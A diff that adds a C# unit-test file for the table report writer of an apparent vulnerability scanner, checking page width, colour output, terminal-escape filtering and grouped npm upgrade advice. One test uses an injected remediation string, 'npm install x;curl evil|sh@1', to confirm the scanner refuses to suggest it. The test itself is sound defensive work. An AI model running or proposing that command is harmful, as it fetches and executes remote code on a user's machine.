@@ -1,0 +1,92 @@
+using System.Text.RegularExpressions;
+using Skep.Core;
+using Skep.Reports.Table;
+using Skep.Reports.Text;
+using Skep.Testing;
+
+namespace Skep.Reports.Tests.Table;
+
+public sealed class TableReportWriterTests : ReportContract
+{
+    private static readonly ReportOptions Everything =
+        new() { ListAllPackages = true, ShowRemoved = true, ShowSuppressed = true };
+
+    protected override IReportWriter Writer => new TableReportWriter();
+
+    protected override string Golden => Testdata.PathOf("sample-80.txt");
+
+    [Fact]
+    public void Wide_page_shows_titles() =>
+        AssertGolden(Testdata.PathOf("sample-160.txt"), Write(Everything with { Width = 160 }, SampleScan.Report));
+
+    [Theory]
+    [InlineData(10)]
+    [InlineData(40)]
+    [InlineData(63)]
+    [InlineData(80)]
+    [InlineData(132)]
+    public void No_line_is_wider_than_the_page(int width)
+    {
+        foreach (ScanReport report in new[] { SampleScan.Report, SampleScan.Clean, HostileScan.Report, HostileScan.Long })
+        {
+            foreach (string line in Write(Everything with { Width = width }, report).Split('\n'))
+            {
+                Assert.True(DisplayText.Width(line) <= Math.Max(width, 40), $"{DisplayText.Width(line)} columns: {line}");
+            }
+        }
+    }
+
+    [Fact]
+    public void Colour_changes_nothing_but_colour()
+    {
+        string plain = Write(Everything, SampleScan.Report);
+        string coloured = Write(Everything with { Colour = true }, SampleScan.Report);
+
+        Assert.Contains("\u001b[1;31m", coloured, StringComparison.Ordinal);
+        string bare = Regex.Replace(coloured, "\u001b\\[[0-9;]*m", string.Empty, RegexOptions.NonBacktracking);
+        Assert.Equal(Lines(plain), Lines(bare));
+    }
+
+    [Fact]
+    public void Names_from_the_image_cannot_colour_or_command_the_terminal()
+    {
+        string coloured = Write(Everything with { Colour = true }, HostileScan.Report);
+
+        // Every escape is one of our own colour codes.
+        MatchCollection ours = Regex.Matches(coloured, "\u001b\\[[0-9;]{1,4}m", RegexOptions.NonBacktracking);
+        Assert.Equal(coloured.Count(c => c == '\u001b'), ours.Count);
+        Assert.DoesNotContain(coloured, c => c != '\u001b' && c != '\n' && char.IsControl(c));
+        Assert.DoesNotContain('\u202e', coloured);
+        Assert.DoesNotContain('\u2066', coloured);
+    }
+
+    [Fact]
+    public void Command_with_shell_characters_from_a_package_name_is_not_offered()
+    {
+        VulnerabilityFinding finding = SampleScan.Report.Vulnerabilities[1] with { Remediation = "npm install x;curl evil|sh@1" };
+
+        Assert.Empty(AdviceSection.Commands([finding]));
+    }
+
+    [Fact]
+    public void Upgrades_of_one_package_manager_become_one_command_with_the_highest_version()
+    {
+        VulnerabilityFinding first = SampleScan.Report.Vulnerabilities[3];
+        VulnerabilityFinding[] findings =
+        [
+            first with { FixedVersion = "4.17.9", Remediation = "npm install lodash@4.17.9" },
+            first with { FixedVersion = "4.17.21", Remediation = "npm install lodash@4.17.21" },
+            first with
+            {
+                Package = first.Package with { Package = first.Package.Package with { Name = "minimist" } },
+                FixedVersion = "1.2.6",
+                Remediation = "npm install minimist@1.2.6",
+            },
+        ];
+
+        Assert.Equal(("npm install lodash@4.17.21 minimist@1.2.6", 3), Assert.Single(AdviceSection.Commands(findings)));
+    }
+
+    // Padding before a line's end is trimmed in plain text and stands before the reset code in coloured text.
+    private static IEnumerable<string> Lines(string text) => text.Split('\n').Select(line => line.TrimEnd());
+}
